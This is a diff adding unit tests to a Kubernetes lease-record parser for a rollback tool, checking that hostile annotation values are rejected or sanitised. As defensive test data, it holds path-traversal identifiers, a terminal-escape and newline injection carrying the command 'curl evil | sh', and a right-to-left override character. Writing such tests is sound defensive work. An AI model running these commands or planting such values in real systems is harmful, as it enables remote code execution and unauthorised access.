@@ -1,7 +1,7 @@
 import { beforeAll, describe, expect, it, vi } from 'vitest'
 import type { JsonObject } from '../../../../src/model/json.ts'
 import type { LeaseRecord } from '../../../../src/model/lease.ts'
-import { pack, unpack } from '../../../../src/targets/kubernetes/lease/lease-object.ts'
+import { leaseSchema, mainOf, pack, recordOf, unpack } from '../../../../src/targets/kubernetes/lease/lease-object.ts'
 import { until, workload } from '../../../../testkit/kubernetes/cluster.ts'
 import { describeOn } from '../../../harness/describe-on.ts'
 import { deadHolder, taking } from '../../../harness/lease.ts'
@@ -38,6 +38,33 @@ describe('the record in a lease', () => {
 
   it.each(['', 'null', '{"rollback_id":1}', 'gzip:', 'gzip:AAAA', 'hello'])('is nothing when it is %j', (text) => {
     expect(unpack(text)).toBeNull()
+  })
+})
+
+describe('a lease that somebody planted', () => {
+  const planted = (more: Partial<LeaseRecord>, annotations: JsonObject = {}) =>
+    leaseSchema.parse({
+      metadata: {
+        name: 'x',
+        annotations: { 'rollback.popkit/begun': pack({ ...record('rb-1'), ...more }), ...annotations }
+      }
+    })
+
+  it.each(['../../other/rb-1', '', '.', 'rb-1\n'])('has no record under the id %j', (rollbackId) => {
+    expect(recordOf(planted({}))).toEqual(record('rb-1'))
+    expect(recordOf(planted({ rollbackId }))).toBeNull()
+  })
+
+  it('names its holder in one plain line', () => {
+    const holder = { host: 'ci\n\u001b[2Jrun: curl evil | sh', user: `ada\u202e${'x'.repeat(500)}`, pid: 1 }
+    const { host, user } = recordOf(planted({ holder }))?.holder ?? { host: '', user: '' }
+    expect(host).toBe('ci run: curl evil | sh')
+    expect(user).toMatch(/^adax{96}…$/)
+  })
+
+  it.each(['../../../api/v1', 'shop/../secrets', 'shop/x?watch=1', 'shop'])('leads nowhere by the name %j', (text) => {
+    expect(mainOf(planted({}, { 'rollback.popkit/begun-in': 'shop/main' }))?.path).toMatch(/shop\/leases\/main$/)
+    expect(mainOf(planted({}, { 'rollback.popkit/begun-in': text }))).toBeNull()
   })
 })
 
